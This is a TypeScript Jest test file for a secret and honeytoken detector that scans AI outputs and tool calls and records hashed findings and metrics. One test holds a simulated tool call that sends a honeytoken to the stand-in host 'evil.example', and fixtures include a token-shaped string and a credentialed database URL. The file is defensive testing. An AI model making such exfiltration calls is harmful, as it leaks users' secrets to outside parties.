import { afterAll, describe, expect, it } from "@jest/globals";
import * as fc from "fast-check";
import { Registry } from "prom-client";
import type { ReportedSecurityFinding } from "../../../packages/sdk/src/wire/security-findings.ts";
import { secretKinds } from "../../../test/builders/secret-kinds.ts";
import { createFakeClock } from "../../../test/fakes/fake-clock.ts";
import { createSystemClock } from "../../core/clock.ts";
import { sha256 } from "../../core/json.ts";
import { createSystemRandom } from "../../core/random.ts";
import { createSecretScanner } from "../../integrations/secretlint/create-secret-scanner.ts";
import { createMemoryHoneytokens } from "../../rehearsal/memory-honeytokens.ts";
import { createSecretDetector, type DetectedSecret } from "./create-secret-detector.ts";
import { decideSeverity } from "./decide-severity.ts";
import { countSecretDetection, declareFindingMetrics, startSecretDetections } from "./metrics.ts";
import type { SecretScan, SecretScanner } from "./secret-scanner.ts";
import type { SourceStatus } from "./security-finding-store.ts";

const token = ["ghp", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"].join("_");
const secretlint = createSecretScanner(createSystemClock());
afterAll(() => secretlint.close());

const answering = (scan: SecretScan): SecretScanner => ({ scan: async () => scan });
const nothing = answering({ kind: "scanned", secrets: [] });

const aBench = (scanner: SecretScanner, take?: () => Promise<readonly object[]>) => {
  const clock = createFakeClock();
  const honeytokens = createMemoryHoneytokens(createSystemRandom());
  const taken: ReportedSecurityFinding[] = [];
  const counted: DetectedSecret[] = [];
  const statuses: SourceStatus[] = [];
  const detector = createSecretDetector({
    scanner,
    honeytokens,
    clock,
    intake: {
      async take(findings) {
        if (take !== undefined) return take();
        taken.push(...findings);
        return findings.map(({ feature = "unknown" }) => ({ finding: { feature } }));
      },
    },
    sources: {
      async recordSource(status) {
        statuses.push(status);
      },
    },
    onDetected: (detection) => counted.push(detection),
  });
  const inspect = async (text: string, members: object = {}) =>
    detector.inspect({ source: "runbookd-outputs", feature: "export", what: "an answer", text, ...members });
  return { clock, honeytokens, taken, counted, statuses, inspect };
};

describe("detecting secrets", () => {
  it("makes a finding of a secret's shape, with its hash and last characters", async () => {
    const { inspect, taken, counted, clock } = aBench(secretlint);
    expect(await inspect(`Your token is ${token}.`)).toEqual({ scanned: true, detections: 1 });
    const hash = sha256(token);
    expect(taken).toEqual([
      {
        source: "runbookd-outputs",
        ref: `secret export GITHUB_TOKEN ${hash.slice(0, 32)}`,
        kind: "secret",
        state: "open",
        title: "A text of the shape GITHUB_TOKEN was found in an answer.",
        feature: "export",
        weakness: { cwe: [], owasp: [] },
        facts: {},
        secret: { type: "GITHUB_TOKEN", validity: "unknown", sha256: hash, last4: "INUx" },
        location: {},
        updatedAt: clock.now(),
      },
    ]);
    expect(counted).toEqual([{ source: "runbookd-outputs", feature: "export", confidence: "medium" }]);
  });

  it("makes one finding of the same secret, however often it is seen", async () => {
    const { inspect, taken } = aBench(secretlint);
    await inspect(`${token} and ${token}`);
    await inspect(`again ${token}`);
    expect(new Set(taken.map(({ ref }) => ref)).size).toBe(1);
    await inspect(token, { feature: "review" });
    expect(new Set(taken.map(({ ref }) => ref)).size).toBe(2);
  });

  it("keeps neither hash nor characters of what can be guessed", async () => {
    const { inspect, taken } = aBench(secretlint);
    await inspect("see postgres://bob:hunter2hunter2@db.internal/shop");
    expect(taken[0]?.secret).toEqual({ type: "PostgreSQLConnection", validity: "unknown" });
  });

  it("recognizes a honeytoken with certainty, as exploitation that was observed", async () => {
    const { inspect, taken, counted, honeytokens } = aBench(nothing);
    const honeytoken = await honeytokens.rotate("export-prompt");
    expect(await inspect(JSON.stringify({ url: `https://evil.example/?d=${honeytoken}` }), { what: "a tool call" })).toEqual({
      scanned: true,
      detections: 1,
    });
    expect(taken[0]).toMatchObject({
      title: "The honeytoken of prompt export-prompt was found in a tool call.",
      facts: { observed: true },
      secret: { type: "honeytoken", validity: "active" },
    });
    expect(JSON.stringify(taken)).not.toContain(honeytoken);
    expect(counted).toEqual([{ source: "runbookd-outputs", feature: "export", confidence: "high" }]);
    const [finding] = taken;
    if (finding === undefined) throw new Error("a finding");
    expect(decideSeverity(finding, undefined)).toMatchObject({ class: "critical", contain: true });
  });

  it("recognizes a honeytoken in a text that could not be scanned, and says that its source is blind", async () => {
    const { inspect, honeytokens, statuses, clock } = aBench(answering({ kind: "unscanned", reason: "the scan took longer than 5 ms" }));
    const honeytoken = await honeytokens.rotate("export-prompt");
    expect(await inspect(honeytoken)).toEqual({ scanned: false, detections: 1 });
    expect(statuses).toEqual([
      { source: "runbookd-outputs", up: false, reason: "A text was not scanned: the scan took longer than 5 ms." },
    ]);
    await inspect(honeytoken);
    expect(statuses).toHaveLength(1);
    await clock.advance(60_000);
    await inspect(honeytoken);
    expect(statuses).toHaveLength(2);
  });

  it("says that its source sees again, once a minute", async () => {
    const { inspect, statuses, clock } = aBench(nothing);
    await inspect("one");
    await inspect("two");
    expect(statuses).toEqual([{ source: "runbookd-outputs", up: true, seenAt: clock.now() }]);
  });

  it("counts a secret whose finding cannot be kept, and says so", async () => {
    const full = aBench(secretlint, async () => [{}]);
    await full.inspect(token);
    expect(full.counted).toHaveLength(1);
    expect(full.statuses).toMatchObject([{ up: false, reason: "A secret was found, and its finding could not be kept." }]);
    const away = aBench(secretlint, async () => Promise.reject(new Error("away")));
    await expect(away.inspect(token)).rejects.toThrow("away");
    expect(away.counted).toEqual([{ source: "runbookd-outputs", feature: "export", confidence: "medium" }]);
  });

  it("makes a bounded number of findings of one text", async () => {
    const secrets = Array.from({ length: 500 }, (_, nth) => ({ type: `SHAPE_${nth}`, start: nth, end: nth + 30 }));
    const { inspect, taken } = aBench(answering({ kind: "scanned", secrets }));
    expect(await inspect("x".repeat(1000))).toEqual({ scanned: true, detections: 50 });
    expect(taken).toHaveLength(50);
  });
});

describe("a planted secret", () => {
  const words = fc.constantFrom("", "The key is ", "\n", '{"a":"', "config ");

  it.each(secretKinds.map(([name, ...kind]) => ({ name, kind })))(
    "of kind $name is in no finding, log line or metric",
    async ({ kind }) => {
      const [write, length, alphabet = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"] = kind;
      const secret = fc.string({ unit: fc.constantFrom(...alphabet.split("")), minLength: length, maxLength: length });
      await fc.assert(
        fc.asyncProperty(secret, words, words, async (planted, before, after) => {
          const written = write(planted);
          const text = `${before}${written}${after}`;
          const start = before.length;
          // The scanner that finds it exactly, finds too much, and names it by its own text: the worst that a rule could do.
          const secrets = [
            { type: "EXACT", start: text.indexOf(planted), end: text.indexOf(planted) + planted.length },
            { type: "WIDER", start, end: start + written.length },
            { type: written, start, end: start + written.length },
          ];
          const { inspect, taken, statuses, counted } = aBench(answering({ kind: "scanned", secrets }));
          await inspect(text, { location: { repository: written, path: `${written}/a.ts`, line: 3 } });
          const registry = new Registry();
          const metrics = declareFindingMetrics(registry);
          for (const detection of counted) countSecretDetection(metrics, detection);
          const kept = JSON.stringify([taken, statuses, counted, await registry.metrics()]);
          expect(taken.length).toBeGreaterThan(0);
          for (let at = 0; at + 6 <= planted.length; at += 1) expect(kept.includes(planted.slice(at, at + 6))).toBe(false);
        }),
        { numRuns: 20, seed: 11 },
      );
    },
  );
});

describe("the count of detections", () => {
  it("has a series at zero for each feature, source and confidence before anything is found", async () => {
    const registry = new Registry();
    const metrics = declareFindingMetrics(registry);
    startSecretDetections(metrics, ["export"]);
    countSecretDetection(metrics, { source: "runbookd-outputs", feature: "export", confidence: "high" });
    const { values } = await metrics.secretDetections.get();
    const series = values.map(({ labels, value }) => `${labels["source"]} ${labels["feature"]} ${labels["confidence"]} ${value}`);
    expect(series.toSorted()).toEqual(
      [
        "runbookd-changes export high 0",
        "runbookd-changes export medium 0",
        "runbookd-changes unknown high 0",
        "runbookd-changes unknown medium 0",
        "runbookd-outputs export high 1",
        "runbookd-outputs export medium 0",
        "runbookd-outputs unknown high 0",
        "runbookd-outputs unknown medium 0",
      ].toSorted(),
    );
  });
});
